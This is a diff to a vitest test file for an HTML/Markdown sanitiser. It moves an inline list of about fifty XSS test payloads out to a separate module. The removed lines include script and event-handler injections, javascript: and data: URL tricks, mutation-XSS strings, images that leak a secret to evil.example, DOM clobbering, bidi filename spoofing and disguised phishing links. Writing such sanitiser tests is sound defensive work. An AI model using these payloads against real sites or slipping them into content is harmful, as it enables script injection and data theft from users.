@@ -4,57 +4,7 @@
  */
 import { parseHTML } from "linkedom";
 import { beforeAll, describe, expect, test } from "vitest";
-
-const payloads = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  '<img src="https://evil.example/?q=SECRET">',
-  "<svg/onload=alert(1)>",
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="https://evil.example/x.swf"></object>',
-  '<form action="https://evil.example"><button>Go</button></form>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  "<style>@import 'https://evil.example/x.css';</style>",
-  '<link rel="prefetch" href="https://evil.example/x">',
-  "[x](javascript:alert(1))",
-  "[x](<javascript:alert(1)>)",
-  "[x](JaVaScRiPt&#58;alert(1))",
-  "[x](java&Tab;script&colon;alert(1))",
-  "[x](&#1;javascript:alert(1))",
-  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  "[x](vbscript:msgbox)",
-  "[x](/admin) [y](//evil.example) [z](?a=1) [w](#id)",
-  "[x][1]\n\n[1]: javascript:alert(1)",
-  "[x]\n\n[x]: data:text/html,x",
-  "<javascript:alert(1)> <data:text/html,x> javascript:alert(1)",
-  "<a@evil.example> a@evil.example [m](mailto:a@evil.example)",
-  "![x](https://evil.example/?q=SECRET)",
-  "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
-  "[![x](https://evil.example/a.png)](https://evil.example/b)",
-  "| ![x](https://evil.example/?q=1) |\n|---|\n| ![y](https://evil.example/?q=2) |",
-  "# ![x](https://evil.example/?q=1) <img src=x>",
-  "text[^1]\n\n[^1]: ![x](https://evil.example/?q=1)",
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  "<!--><img src=x onerror=alert(1)>-->",
-  "```\n<img src=x onerror=alert(1)>",
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```mermaid\nclick A "javascript:alert(1)"\nA["<img src=x onerror=alert(1)>"]\n```',
-  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example}$ $\\url{https://a}$",
-  "$$\\htmlId{config}{x}\\htmlStyle{color:red}{y}\\htmlData{a=b}{z}$$",
-  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007x",
-  "user\u202egnp.exe \u2066x\u2069",
-  "<a id=config></a><form name=document><input name=cookie>",
-  "[https://bank.example](https://evil.example)",
-  "[bank.example/login](https://bank.example@evil.example)",
-  '[x](https://a.example "onmouseover=alert(1)") [y](https://a.example/"onclick="alert(1))',
-  "[__proto__][constructor]\n\n[__proto__]: https://a.example\n[constructor]: https://a.example",
-  "<details open ontoggle=alert(1)><summary>x</summary></details>",
-  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-  "<div style=background:url(https://evil.example)>**x**</div>",
-];
+import { payloads } from "./payloads.ts";
 
 const allowed =
   /^(a|blockquote|br|button|code|del|div|em|figcaption|figure|h[3-6]|hr|input|li|ol|p|pre|section|span|strong|table|tbody|td|th|thead|tr|ul)$/;
